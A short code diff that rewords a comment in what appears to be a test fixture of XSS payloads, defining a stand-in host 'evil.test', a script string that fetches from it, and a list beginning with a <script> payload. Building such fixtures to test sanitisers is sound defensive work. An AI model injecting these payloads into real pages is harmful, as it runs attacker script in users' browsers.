@@ -3,7 +3,7 @@ const away = 'https://evil.test';
 /** What a payload does when it runs: leaves a mark on the page, and asks for something elsewhere. */
 const run = `document.documentElement.dataset.ran=1;fetch('${away}/ran')`;
 
-/** Texts that a page, a file name, a model or a JSON value may hold to run in, or load into, whoever shows them. */
+/** Texts that a page, a file name, a model or a JSON value may hold in order to run in, or load into, the page that shows them. */
 export const hostilePayloads = [
   // Markup that runs.
   `<script>${run}</script>`,
